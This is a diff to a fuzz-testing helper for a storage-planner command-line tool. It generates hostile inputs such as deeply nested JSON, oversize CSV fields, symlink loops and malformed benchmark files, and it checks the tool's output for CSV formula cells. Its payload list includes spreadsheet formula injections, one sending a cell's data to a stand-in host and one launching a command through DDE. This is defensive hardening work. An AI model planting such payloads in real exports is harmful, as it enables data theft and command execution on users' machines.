@@ -423,6 +423,8 @@ def argv_for(rnd: random.Random, command: str, files: Files) -> list[str]:
         argv = ["size", files.doc(rnd, DEMANDS, "demand")]
         if _opt(rnd, 0.3):
             argv += ["--top", _number_text(rnd)]
+        if _opt(rnd, 0.1):
+            argv.append("--timings")
         argv += calibration_args(rnd, files)
     elif command == "import":
         src = rnd.choice(IMPORT_FILES)
@@ -524,15 +526,52 @@ def outcome(argv: list[str], code, out: str, err: str, exc: BaseException | None
         return f"exit {code}"
     if err:
         return "stderr on success"
-    if argv[:1] == ["validate"] and "--format" in argv and argv[argv.index("--format") + 1] == "csv":
-        return "ok" if out.count("\n") > 1 else "empty csv"
+    if "--format" in argv[:-1] and argv[argv.index("--format") + 1] == "csv":
+        if out.count("\n") <= 1:
+            return "empty csv"
+        return "formula cell in a csv" if formula_cells(out) else "ok"
     try:
-        json.loads(out, parse_constant=_refuse_constant)
+        doc = json.loads(out, parse_constant=_refuse_constant)
     except ValueError as e:
         return f"not strict JSON ({str(e)[:40]})"
     if UNEXPLAINED in out:
         return "unexplained null"
+    if argv[:1] and argv[0] in NULLS_EXPLAINED and unexplained_nulls(doc):
+        return "null without a note"
+    if argv[:1] == ["import"] and any(bad_measured(r) for r in doc.get("rows", [])):
+        return "imported point breaks the measured-value rule"
     return "ok"
+
+
+#: commands whose every null must carry its reason (README: strict output)
+NULLS_EXPLAINED = ("evaluate", "sla", "price", "size", "compare")
+
+
+def formula_cells(text: str) -> list[str]:
+    """Cells of CSV text a spreadsheet would run: text starting with = + - @ tab or CR
+    (a number such as -1.5 is a value, not a formula)."""
+    import csv as _csv
+
+    bad = []
+    for row in _csv.reader(io.StringIO(text)):
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                try:
+                    float(cell)
+                except ValueError:
+                    bad.append(cell)
+    return bad
+
+
+def bad_measured(row: dict) -> bool:
+    """An imported point that breaks the one rule (iops > 0, other metrics >= 0, CPU <= 1)."""
+    m = row.get("measured") or {}
+    iops = m.get("iops")
+    if iops is None or not iops > 0:
+        return True
+    if any(v is not None and v < 0 for v in m.values()):
+        return True
+    return (m.get("host_cpu_utilization") or 0) > 1
 
 
 def calibration_digest() -> str:
@@ -642,7 +681,10 @@ def run_case(rnd: random.Random, kind: str, scratch: Path, time_limit: int = TIM
     case = scratch / f"case{rnd.randrange(10**9)}"
     case.mkdir(parents=True)
     try:
-        argv = argv_for(rnd, kind, Files(case))
+        if kind.startswith("hostile:"):
+            argv = hostile_argv(rnd, kind.split(":", 1)[1], Files(case))
+        else:
+            argv = argv_for(rnd, kind, Files(case))
         code, out, err, exc = run_cli(argv, time_limit)
         return outcome(argv, code, out, err, exc), f"{' '.join(argv)[:240]} -> {(err or repr(exc))[:200]}"
     finally:
@@ -750,3 +792,312 @@ def valid_extreme(rnd: random.Random, doc: dict, kind: str) -> dict:
     if kind == "design":
         doc = inline_parts(rnd, doc)
     return extremes(rnd, doc, model)
+
+
+# -------------------------------------------- hostile files (hardening round two)
+# The generators that found issue 23's reproducers, shared by tests/test_hardening_two.py
+# (one minimal case each) and benchmarks/fuzz.py (random ones, counted per kind).
+CSV_HEADER = "label,outstanding_per_thread,block_size_kib,read_fraction,iops"
+#: formula payloads a spreadsheet would run (OWASP CSV injection), as labels or tier names
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1;"x")',
+    "@SUM(1+1)",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "=1+1",
+    "\t=1",
+    "\r=1",
+]
+DIR = ROOT / "tests" / "fixtures" / "import"
+
+
+def deep_json(depth: int, inside: str = "[]", opener: str = "[") -> str:
+    """``depth`` levels of ``opener`` around ``inside`` (100,000 levels make json.loads recurse out)."""
+    closer = {"[": "]", "{": "}"}[opener]
+    if opener == "{":
+        return '{"a": ' * depth + inside + "}" * depth
+    return opener * depth + inside + closer * depth
+
+
+def deep_fio(depth: int) -> bytes:
+    """fio-looking JSON with a value nested ``depth`` levels deep."""
+    return ('{"fio version": "fio-3.33", "jobs": [], "x": ' + deep_json(depth) + "}").encode()
+
+
+def fio_jobs(n: int, bs: int = 4096, ios: int = 100, name: str = "j") -> dict:
+    """A fio 3.x JSON document: ``n`` jobs in one reporting group, each ``ios`` reads of
+    ``bs`` bytes in one second at 0.5 ms (16,000 jobs are about 7 MB)."""
+    sec = lambda k: {
+        "io_bytes": k * bs,
+        "io_kbytes": k * bs // 1024,
+        "bw_bytes": k * bs,
+        "bw": k * bs // 1024,
+        "iops": float(k),
+        "runtime": 1000,
+        "total_ios": k,
+        "clat_ns": {"mean": 450000.0, "N": k, "percentile": {"99.000000": 1500000}},
+        "lat_ns": {"mean": 500000.0, "N": k},
+    }
+    jobs = [
+        {
+            "jobname": f"{name}{i}",
+            "groupid": 0,
+            "error": 0,
+            "job options": {"rw": "randread", "iodepth": "1", "ioengine": "libaio", "bs": str(bs)},
+            "read": sec(ios),
+            "write": sec(0),
+            "job_runtime": 1000,
+        }
+        for i in range(n)
+    ]
+    return {"fio version": "fio-3.33", "jobs": jobs}
+
+
+def csv_template(rows: list[tuple]) -> bytes:
+    """The CSV template with the required columns only, one row per tuple
+    (label, outstanding, block KiB, read fraction, IOPS); labels quoted as csv does."""
+    import csv as _csv
+
+    buf = io.StringIO()
+    w = _csv.writer(buf, lineterminator="\n")
+    w.writerow(CSV_HEADER.split(","))
+    w.writerows(rows)
+    return buf.getvalue().encode()
+
+
+def oversize_field_csv(chars: int = 131_073) -> bytes:
+    """A template row whose label is longer than the csv module's field limit (131,072)."""
+    return f"{CSV_HEADER}\n{'x' * chars},4,8,1,1000\n".encode()
+
+
+def many_rows_csv(megabytes: float) -> bytes:
+    """A valid template of about ``megabytes`` MB (19 MB is about 1.3 million rows, far past the
+    20,000-point limit)."""
+    row = b"run,4,8,1,1000\n"
+    return (CSV_HEADER + "\n").encode() + row * int(megabytes * 1e6 / len(row))
+
+
+def vmfleet_with(column: str, value: str) -> bytes:
+    """The shipped two-node VMFleet result file with ``column`` of its first row set to ``value``."""
+    lines = (DIR / "vmfleet-AX6515-All-Flash-4xSSD-32VMs-2Node.tsv").read_text().splitlines()
+    head = [c.strip('"') for c in lines[0].split("\t")]
+    cells = lines[1].split("\t")
+    i = head.index(column)
+    cells[i] = f'"{value}"' if cells[i].startswith('"') else value
+    lines[1] = "\t".join(cells)
+    return ("\n".join(lines) + "\n").encode()
+
+
+def diskspd_with(old: str, new: str, name: str = "diskspd-fixed-threads-throttled.xml") -> bytes:
+    text = (DIR / name).read_text()
+    assert old in text, old
+    return text.replace(old, new).encode()
+
+
+def symlink_loop(folder: Path, name: str = "loop") -> Path:
+    """``ln -s loop loop`` in ``folder``."""
+    p = folder / name
+    if not p.is_symlink():
+        p.symlink_to(name)
+    return p
+
+
+def out_of_bound_calibration(rnd: random.Random | None = None, param: str | None = None, value=None) -> dict:
+    """The shipped calibration with one parameter of one bootstrap set outside its fit bounds
+    (default: ``storage_cpu_wait`` -0.4 in the first set)."""
+    from planner.models.params import PARAM_BOUNDS
+
+    doc = copy.deepcopy(CALIBRATION_DOC)
+    if rnd is None:
+        doc["bootstrap"][0][param or "storage_cpu_wait"] = -0.4 if value is None else value
+        return doc
+    name = param or rnd.choice(sorted(PARAM_BOUNDS))
+    lo, hi = PARAM_BOUNDS[name][1:]
+    bad = rnd.choice([lo - abs(lo) * 0.5 - 0.1, hi + abs(hi) * 0.5 + 0.1, -1e300, 1e300, "x", None, True])
+    doc["bootstrap"][rnd.randrange(len(doc["bootstrap"]))][name] = bad
+    return doc
+
+
+def unexplained_nulls(doc) -> list[str]:
+    """Paths of nulls that no note explains. A null at key ``k`` is explained by a
+    sibling ``<p>_note`` where ``k`` is ``p`` or starts with ``p + '_'``
+    (``endurance_years`` by ``endurance_note``, a band's ``write_latency_ms_low`` by
+    ``write_latency_ms_note``), as the README promises; a null list item never is."""
+    out = []
+    stack = [(doc, "")]
+    while stack:
+        obj, path = stack.pop()
+        if isinstance(obj, dict):
+            notes = [k[:-5] for k in obj if isinstance(k, str) and k.endswith("_note")]
+            for k, v in obj.items():
+                if v is None:
+                    if not any(k == n or str(k).startswith(n + "_") for n in notes):
+                        out.append(f"{path}.{k}")
+                else:
+                    stack.append((v, f"{path}.{k}"))
+        elif isinstance(obj, list):
+            for i, v in enumerate(obj):
+                if v is None:
+                    out.append(f"{path}[{i}]")
+                else:
+                    stack.append((v, f"{path}[{i}]"))
+    return out
+
+
+#: the kinds of hostile input (issue 23's generators), each a CLI command line
+HOSTILE = ("deep-json", "csv-field", "symlink", "calibration", "formula", "fio-jobs", "measured", "diskspd")
+_READERS = ("fio", "import", "design", "catalog", "calibration", "demand", "db", "tiers", "workload")
+
+
+def _deep(rnd: random.Random) -> str:
+    depth = rnd.choice([65, 100, 1_000, 100_000, rnd.randrange(60, 70)])
+    return deep_json(depth, json.dumps(json_value(rnd)), rnd.choice("[{"))
+
+
+def hostile_argv(rnd: random.Random, kind: str, files: Files) -> list[str]:
+    """A command line feeding one hostile input of ``kind`` (see :data:`HOSTILE`)."""
+    ref = str(EX / "reference.json")
+    if kind == "deep-json":
+        reader = rnd.choice(_READERS)
+        deep = _deep(rnd)
+        if reader == "fio":
+            return [
+                "import",
+                files.write(('{"fio version": "fio-3.33", "jobs": [], "x": ' + deep + "}").encode()),
+                "--design",
+                ref,
+            ]
+        if reader == "import":
+            return [
+                "import",
+                files.write(deep.encode(), rnd.choice([".json", ".xml", ".tsv", ".csv"])),
+                "--design",
+                ref,
+            ]
+        if reader == "design":
+            return ["evaluate", files.write(('{"name": "d", "node": ' + deep + "}").encode())]
+        if reader == "catalog":
+            folder = files.folder / f"cat{files.n}"
+            files.n += 1
+            folder.mkdir()
+            (folder / "mine.json").write_text('{"device_class": "nic", "records": ' + deep + "}")
+            return ["catalog", "--catalog", str(folder)]
+        if reader == "calibration":
+            cal = files.write(('{"version": "x", "params": ' + deep + "}").encode())
+            return ["evaluate", ref, "--workload", "oltp-8k", "--calibration", cal]
+        if reader == "demand":
+            return ["size", files.write(('{"total_iops": ' + deep + "}").encode())]
+        if reader == "db":
+            return ["sla", ref, "--db", files.write(('{"name": ' + deep + "}").encode())]
+        if reader == "tiers":
+            return ["price", ref, "--tiers", files.write(('{"tiers": ' + deep + "}").encode())]
+        return ["evaluate", ref, "--workload", files.write(('{"name": ' + deep + "}").encode())]
+    if kind == "csv-field":
+        n = rnd.choice([131_072, 131_073, 200_000, rnd.randrange(100, 300_000)])
+        col = rnd.randrange(5)
+        cells = ["x", "4", "8", "1", "1000"]
+        cells[col] = ("9" if col else "x") * n
+        data = f"{CSV_HEADER}\n{','.join(cells)}\n".encode()
+        return ["import", files.write(data, ".csv"), "--design", ref]
+    if kind == "symlink":
+        loop = str(symlink_loop(files.folder, f"loop{files.n}"))
+        files.n += 1
+        where = rnd.randrange(7)
+        target = loop if rnd.random() < 0.7 else f"{loop}/x.json"
+        if where == 0:
+            return [rnd.choice(["evaluate", "price", "bom"]), ref, "--catalog", target]
+        if where == 1:
+            return ["catalog", "--catalog", target]
+        if where == 2:
+            return ["evaluate", target]
+        if where == 3:
+            return ["evaluate", ref, "--workload", "oltp-8k", "--calibration", target]
+        if where == 4:
+            return ["import", target, "--design", ref]
+        if where == 5:
+            return ["size", target]
+        out = ["import", str(EX / "import-measurements.csv"), "--design", ref, "--calibrate", "--no-held-out"]
+        return [*out, "--out", target]
+    if kind == "calibration":
+        cal = files.write(json.dumps(out_of_bound_calibration(rnd)).encode())
+        cmd = rnd.randrange(4)
+        if cmd == 0:
+            return ["evaluate", ref, "--workload", rnd.choice(PROFILES), "--calibration", cal]
+        if cmd == 1:
+            return ["sla", ref, "--db", str(EX / "db-erp.json"), "--calibration", cal]
+        if cmd == 2:
+            return ["price", ref, "--calibration", cal]
+        return ["size", str(EX / "demand-hammerdb.json"), "--calibration", cal]
+    if kind == "formula":
+        rows = [
+            (
+                rnd.choice(FORMULAS) + random_text(rnd, rnd.randrange(4)),
+                rnd.choice([1, 4, 32]),
+                8,
+                rnd.choice([0.7, 1]),
+                1000 + i,
+            )
+            for i in range(rnd.randint(1, 5))
+        ]
+        argv = ["import", files.write(csv_template(rows), ".csv"), "--design", ref, "--format", "csv"]
+        return argv + (
+            ["--calibrate", "--no-held-out", "--out", str(files.folder / "cal.json")] if _opt(rnd, 0.1) else []
+        )
+    if kind == "fio-jobs":
+        doc = fio_jobs(
+            rnd.choice([1, 2, 10, 100, 1000, rnd.randrange(1, 3000)]), bs=rnd.choice([512, 4096, 1, 1 << 20])
+        )
+        job = rnd.choice(doc["jobs"])
+        edit = rnd.randrange(8)
+        if edit == 0:
+            job["read"]["iops"] = rnd.choice([-1000.0, 0.0, 1e308])
+        elif edit == 1:
+            job["read"]["bw_bytes"] = rnd.choice([-5, 0, 10**20])
+        elif edit == 2:
+            job["error"] = rnd.choice([5, "x", -1])
+        elif edit == 3:
+            job["read"]["lat_ns"]["mean"] = rnd.choice([0, -1, "NaN"])
+        elif edit == 4:
+            job["groupid"] = rnd.choice([1, "x", 10**30])
+        elif edit == 5:
+            job["jobname"] = random_text(rnd, rnd.choice([0, 5, 500]))
+        elif edit == 6:
+            job["job options"]["numjobs"] = rnd.choice(["0", "-4", "x", "100000"])
+        return ["import", files.write(json.dumps(doc).encode()), "--design", ref]
+    if kind == "measured":
+        if _opt(rnd, 0.5):
+            column = rnd.choice(
+                ["IOPS", "AverageCPU", "AverageReadMilliseconds", "AverageReadBW", "AverageWriteBW", "VMCount"]
+            )
+            value = rnd.choice(["-1000", "0", "-0.5", "1e400", "nan", "101", "abc", ""])
+            data, suffix, design = vmfleet_with(column, value), ".tsv", two_node_design(files)
+        else:
+            v = rnd.choice(["-1000", "0", "-0.5", "1e400", "nan", "1.5", "45"])
+            col = rnd.choice(
+                ["iops", "bandwidth_mb_s", "host_cpu_utilization", "read_latency_ms", "p99_read_latency_ms"]
+            )
+            header = f"{CSV_HEADER},{col}" if col != "iops" else CSV_HEADER
+            row = "a,4,8,1," + (f"1000,{v}" if col != "iops" else v)
+            data, suffix, design = f"{header}\n{row}\n".encode(), ".csv", ref
+        return ["import", files.write(data, suffix), "--design", design]
+    # diskspd: an edit of a numeric field
+    old, new = rnd.choice(
+        [
+            ("<BlockSize>8192</BlockSize>", f"<BlockSize>{rnd.choice(['0', '-8192', '1e400', 'x'])}</BlockSize>"),
+            (
+                '<Throughput unit="IOPS">1000</Throughput>',
+                f"<Throughput>{rnd.choice(['1000', '0', '-1'])}</Throughput>",
+            ),
+            ("<ThreadCount>4</ThreadCount>", f"<ThreadCount>{rnd.choice(['0', '-1', '100000'])}</ThreadCount>"),
+            ("<RequestCount>2</RequestCount>", f"<RequestCount>{rnd.choice(['0', '-1'])}</RequestCount>"),
+        ]
+    )
+    return ["import", files.write(diskspd_with(old, new), ".xml"), "--design", ref]
+
+
+def two_node_design(files: Files) -> str:
+    """A design file of the two-node cluster the shipped VMFleet file ran on."""
+    from planner.calibration.benchdata import dell_designs
+
+    rd = dell_designs()["AX6515-All-Flash-8SATA-SSDs-32VMs-2Node.txt"]
+    return files.write(rd.design.model_dump_json(exclude_none=True).encode())
